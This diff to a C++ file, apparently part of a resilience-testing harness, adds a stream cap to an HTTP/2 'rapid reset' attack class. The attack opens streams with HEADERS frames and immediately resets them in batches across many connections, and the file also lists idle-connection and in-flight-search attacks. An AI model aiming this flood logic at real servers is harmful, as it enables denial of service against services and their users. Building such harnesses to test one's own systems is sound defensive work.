@@ -301,10 +301,12 @@ constexpr uint8_t kEndStream = 1, kAck = 1, kEndHeaders = 4;
 
 class RapidResetAttack : public Attack {
  public:
-  RapidResetAttack(int port, int connections, double streams_per_second)
+  RapidResetAttack(int port, int connections, double streams_per_second,
+                   int64_t max_streams)
       : port_(port),
         connections_(std::max(1, connections)),
-        rate_(streams_per_second) {
+        rate_(streams_per_second),
+        max_streams_(max_streams) {
     HpackLiteral(&headers_, ":method", "POST");
     HpackLiteral(&headers_, ":scheme", "http");
     HpackLiteral(&headers_, ":path", "/civhub.v1.Directory/Search");
@@ -430,7 +432,7 @@ class RapidResetAttack : public Attack {
           batch += Frame(kRstStream, 0, id, rst_payload);
         }
         if (!Write(&c, batch)) break;
-        streams_ += 16;
+        if ((streams_ += 16) >= max_streams_ && max_streams_ > 0) Halt();
         if (rate_ > 0) {
           const absl::Time due = start_ + absl::Seconds(streams_ / rate_);
           const absl::Time now = absl::Now();
@@ -446,6 +448,7 @@ class RapidResetAttack : public Attack {
 
   const int port_, connections_;
   const double rate_;
+  const int64_t max_streams_;
   std::string headers_, message_;
   absl::Time start_ = absl::Now(), end_ = absl::InfinitePast();
   std::vector<std::unique_ptr<std::atomic<int>>> fds_;
@@ -884,9 +887,10 @@ std::unique_ptr<Attack> IdleConnections(int port, int count, int sources) {
   return std::make_unique<IdleConnectionsAttack>(port, count, sources);
 }
 std::unique_ptr<Attack> RapidReset(int port, int connections,
-                                   double streams_per_second) {
+                                   double streams_per_second,
+                                   int64_t max_streams) {
   return std::make_unique<RapidResetAttack>(port, connections,
-                                            streams_per_second);
+                                            streams_per_second, max_streams);
 }
 std::unique_ptr<Attack> SearchesInFlight(const Target& target, int calls) {
   return std::make_unique<SearchesInFlightAttack>(target, calls);
